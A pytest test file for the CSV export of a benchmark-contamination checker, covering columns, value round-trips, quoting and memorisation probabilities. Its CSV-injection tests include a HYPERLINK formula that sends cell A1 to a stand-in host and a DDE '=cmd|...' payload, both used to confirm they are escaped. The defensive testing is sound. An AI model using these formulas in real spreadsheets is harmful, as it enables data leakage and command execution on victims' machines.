"""The per-example CSV: SPEC §8's columns, the report's numbers, and text that survives quoting."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from audits import quick_audit, write_jsonl

from contamcheck.report import Report, to_csv
from contamcheck.report.csv_report import _text

PAIRED = ("completion", "min-k", "min-k++", "zlib")
BULK = ("min-k", "min-k++", "zlib")  # with twins, judged against the bulk: a p_memorised column
GUIDED_COLUMNS = [
    "guided_score",
    "guided_general_score",
    "guided_diff",
    "guided_flagged",
    "guided_generated",
    "guided_general_generated",
]


def read_rows(report: Report) -> tuple[list[str], list[dict[str, str]]]:
    reader = csv.DictReader(io.StringIO(to_csv(report), newline=""))
    rows = list(reader)
    assert reader.fieldnames is not None
    return list(reader.fieldnames), rows


def paired_columns(test: str, twins: int) -> list[str]:
    twin_scores = [f"{test}_twin_score"] + [f"{test}_twin{n}_score" for n in range(2, twins + 1)]
    columns = [f"{test}_score", *twin_scores, f"{test}_diff", f"{test}_flagged"]
    columns += [f"{test}_p_memorised"] if test in BULK else []
    return columns + (["completion_generated"] if test == "completion" else [])


def test_columns_with_number_twins(twin_report):
    header, rows = read_rows(twin_report)
    expected = ["id", "text", "twin"]
    for test in PAIRED:
        expected += paired_columns(test, 1)
    assert header == expected + GUIDED_COLUMNS  # canonical-order is aggregate: no columns
    assert len(rows) == len(twin_report.items) == twin_report.sample.tested


def test_columns_with_two_twins_per_question(two_twin_report):
    assert two_twin_report.control.twins_per_question == 2
    header, rows = read_rows(two_twin_report)
    expected = ["id", "text", "twin", "twin2"]
    for test in PAIRED:
        expected += paired_columns(test, 2)
    assert header == expected + GUIDED_COLUMNS
    for row, item in zip(rows, two_twin_report.items, strict=True):
        assert [row["twin"], row["twin2"]] == item.twins
        entry = item.tests["min-k"]
        assert [float(row["min-k_twin_score"]), float(row["min-k_twin2_score"])] == entry.twin_scores
        # the difference is against the mean of the twins, as in the JSON report
        assert entry.diff is not None and float(row["min-k_diff"]) == entry.diff


def test_columns_and_rows_with_a_control_file(control_report):
    header, rows = read_rows(control_report)
    expected = ["id", "text", "control"]
    for test in PAIRED:
        expected += [f"{test}_score", f"{test}_diff", f"{test}_flagged"]
        expected += ["completion_generated"] if test == "completion" else []
    assert header == expected + GUIDED_COLUMNS
    n_questions, n_controls = control_report.sample.tested, control_report.control.n_controls
    assert n_controls > 0
    assert [row["control"] for row in rows] == ["false"] * n_questions + ["true"] * n_controls
    controls = [item for item in control_report.items if item.is_control]
    assert [row["text"] for row in rows[n_questions:]] == [item.text for item in controls]
    # control questions have scores and flags (against the same threshold), guided's under the same
    # two instructions: they are its null
    for test in ("min-k", "guided"):
        assert all(
            row[f"{test}_score"] and row[f"{test}_flagged"] in ("true", "false") for row in rows[n_questions:]
        )
    assert all(row["guided_general_generated"] for row in rows[n_questions:])


def as_csv_value(value: float | bool | str | None) -> str:
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    return value if isinstance(value, str) else repr(value)


@pytest.mark.parametrize("fixture", ["twin_report", "control_report", "partial_report"])
def test_values_match_the_json_report(fixture, request):
    report: Report = request.getfixturevalue(fixture)
    _, rows = read_rows(report)
    items = {(item.is_control, item.id): item for item in report.items}
    checked = memorised = 0
    for row in rows:
        item = items[(row.get("control") == "true", row["id"])]
        assert row["text"] == _text(item.text)  # as text (tested below)
        if "twin" in row:
            assert row["twin"] == _text(item.twins[0])
        for test in (t for t in report.tests if t.kind != "aggregate"):
            entry = item.tests.get(test.name)
            if entry is None:
                assert row[f"{test.name}_score"] == ""
                continue
            assert row[f"{test.name}_score"] == as_csv_value(entry.score)
            assert row[f"{test.name}_diff"] == as_csv_value(entry.diff)
            assert row[f"{test.name}_flagged"] == as_csv_value(entry.flagged)
            if test.kind == "paired":
                assert row[f"{test.name}_twin_score"] == as_csv_value(entry.twin_score)
            if test.kind == "bulk":
                assert row[f"{test.name}_p_memorised"] == as_csv_value(entry.p_memorised)
                memorised += entry.p_memorised is not None
            if test.kind == "self-paired":
                assert row["guided_general_score"] == as_csv_value(entry.general_score)
                assert row["guided_generated"] == _text(entry.generated)
                assert row["guided_general_generated"] == _text(entry.general_generated)
            if test.name == "completion":
                assert row["completion_generated"] == _text(entry.generated)
            if entry.score is not None:
                assert float(row[f"{test.name}_score"]) == entry.score  # repr() round-trips exactly
                checked += 1
    assert checked > len(rows)  # most cells held numbers, not only blanks
    # where part of the benchmark was memorised, each bulk test says how likely each question is
    # the tail's; where all of it was (twin_report's cheater) or a control file judges, no tail
    assert (memorised > 0) == (fixture == "partial_report")


def test_a_flag_of_a_test_with_a_tail_is_four_to_one_or_more(partial_report):
    for test in (t for t in partial_report.tests if t.kind == "bulk"):
        assert test.null is not None and test.null.components == 2
        assert test.null.tail_centre is not None and test.null.tail_scale is not None
        entries = [item.tests[test.name] for item in partial_report.items if test.name in item.tests]
        flagged = [e.p_memorised for e in entries if e.flagged]
        assert flagged and all(p is not None and p >= 0.8 for p in flagged)


def test_code_with_newlines_quotes_and_commas_reads_back(hostile_report):
    text = to_csv(hostile_report)
    _, rows = read_rows(hostile_report)
    assert len(rows) == len(hostile_report.items) == 40
    for row, item in zip(rows, hostile_report.items, strict=True):
        assert row["id"] == item.id
        assert row["text"] == item.text and row["twin"] == item.twins[0]
        assert row["completion_generated"] == (item.tests["completion"].generated or "")
    code = [item.text for item in hostile_report.items if item.id.startswith("code-")]
    assert code and all("\n" in q and '"' in q and "," in q for q in code)
    assert text.startswith("id,text,twin,")


def test_text_a_spreadsheet_would_run_is_written_as_text(tmp_path: Path):
    """CSV injection: a benchmark file's question or id that starts like a formula, and a model that
    writes it back, reach the CSV with an apostrophe before them; the JSON report keeps them."""
    starts = ['=HYPERLINK("http://example.invalid/?"&A1,"Open")', "+{n}+{n}", "-{n} degrees", "@SUM(A1:A{n})"]
    story = "Sam has {a} pens and buys {b} more, then gives {c} away. How many pens does Sam have now?"
    rows = [
        {
            "id": f"{starts[n % 4][0]}id{n}",
            "question": starts[n % 4].format(n=n) + " " + story.format(a=n + 12, b=n + 30, c=n + 5),
        }
        for n in range(24)
    ]
    questions = write_jsonl(tmp_path / "formulas.jsonl", rows)
    report = quick_audit(f"fake:memorise={questions}", questions, tests=["completion", "min-k"])
    _, csv_rows = read_rows(report)
    assert len(csv_rows) == 24
    for row, item in zip(csv_rows, report.items, strict=True):
        assert item.text[0] in "=+-@" and item.id[0] in "=+-@"  # the report keeps the text as it was
        assert row["text"] == "'" + item.text and row["id"] == "'" + item.id
        assert row["twin"] == ("'" + item.twins[0] if item.twins[0][0] in "=+-@" else item.twins[0])
        generated = item.tests["completion"].generated or ""
        assert row["completion_generated"] == (
            "'" + generated if generated[:1] in list("=+-@") else generated
        )
    assert any(row["min-k_score"].startswith("-") for row in csv_rows)  # numbers stay numbers


@pytest.mark.parametrize(
    "text",
    [" =1+1", "  +A1", "\n=cmd|' /C calc'!A0", "\u3000@SUM(A1)", "＝1+1", "＋A1", "－2", "＠SUM(A1)", "\t1"],
)
def test_formulas_after_spaces_or_in_full_width_are_written_as_text(text: str):
    assert _text(text) == "'" + text


@pytest.mark.parametrize("text", ["Sam has 3 pens.", "  Sam has 3 pens.", "x = 1 + 1", "'quoted'", ""])
def test_plain_text_is_left_alone(text: str):
    assert _text(text) == text


def test_a_skipped_test_keeps_its_columns_empty(tmp_path: Path):
    # Every number sits in the first half, so completion has nothing to score; the fake clean model
    # follows no instructions, so guided is skipped after computing its overlaps.
    rows = [
        {
            "question": f"A basket holds {n + 3} apples and {2 * n + 5} pears on the kitchen table this "
            "morning. How many pieces of fruit does the basket hold altogether, counting both kinds?"
        }
        for n in range(24)
    ]
    report = quick_audit("fake:clean", write_jsonl(tmp_path / "b.jsonl", rows), limit=24)
    statuses = {t.name: t.status for t in report.tests}
    assert statuses["completion"] == statuses["guided"] == "skipped"
    assert statuses["min-k"] != "skipped"
    header, parsed = read_rows(report)
    skipped_columns = paired_columns("completion", 1) + GUIDED_COLUMNS
    assert set(skipped_columns) <= set(header)
    assert all(row[column] == "" for row in parsed for column in skipped_columns)
    assert all(row["min-k_score"] != "" for row in parsed)
    assert [row["id"] for row in parsed] == [item.id for item in report.items]
    assert parsed[0]["id"] == "0"  # no ids in the file: the 0-based row number


def test_a_tail_within_chance_gives_no_question_a_probability():
    """A clean model's one outlier fitted as a tail of one read "P(memorised) 1.00" while its test
    passed (tail count p = 0.29): a probability under a tail that chance explains says nothing."""
    report = quick_audit("fake:clean", "sample", limit=40, tests=["min-k"])
    (test,) = report.tests
    assert test.null is not None and test.null.tail_p_value is not None
    assert test.null.components == 2 and test.null.tail_p_value >= 0.05  # the case, as it was met
    given = [item.tests["min-k"].p_memorised for item in report.items if "min-k" in item.tests]
    assert len(given) == 40 and all(p is None for p in given)
